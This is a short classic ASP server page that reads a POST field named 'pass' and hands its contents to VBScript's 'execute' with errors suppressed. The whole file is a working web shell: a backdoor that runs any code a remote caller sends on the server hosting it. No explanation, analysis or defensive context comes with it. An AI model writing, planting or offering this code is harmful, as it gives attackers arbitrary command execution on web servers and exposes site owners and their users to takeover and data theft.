<%
On Error Resume Next
dim a
a = request.form("pass")
if a <> "" then
  execute a
end if
%>
